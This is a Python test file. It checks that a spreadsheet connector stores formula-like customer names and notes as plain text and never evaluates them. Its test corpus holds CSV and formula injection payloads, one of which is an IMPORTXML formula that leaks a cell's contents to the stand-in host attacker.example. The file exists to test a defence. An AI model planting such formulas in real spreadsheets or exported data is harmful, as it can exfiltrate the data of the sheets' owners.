"""Values that look like formulas land in the sheet as the text DooPage sent, never as formulas."""

from __future__ import annotations

import json

import pytest

from tests.worker.test_worker import store

# A spreadsheet evaluates text starting with these when it is typed in (tab and CR are classic CSV
# injection prefixes too); written RAW they must stay text.
CORPUS = [
    '=IMPORTXML("http://attacker.example/?leak="&A1, "//a")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x","click")',
    "'=quoted",
]


@pytest.mark.parametrize("text", CORPUS)
def test_formula_looking_names_and_notes_land_as_text(connector, samples, text):
    created = json.loads(samples["customer_created"])
    created["data"]["customer"]["name"] = text
    note = json.loads(samples["note_changed"])
    note["data"]["note"] = text
    store(connector, [json.dumps(created).encode(), json.dumps(note).encode()])
    assert connector.worker.run_once().done == 2
    row = connector.records("Customers")["1"]
    assert row["Note"] == text
    assert connector.sheets.formula_cells(connector.spreadsheet_id) == 0
    events = connector.rows("Events")
    assert text in [cell for row in events for cell in row]
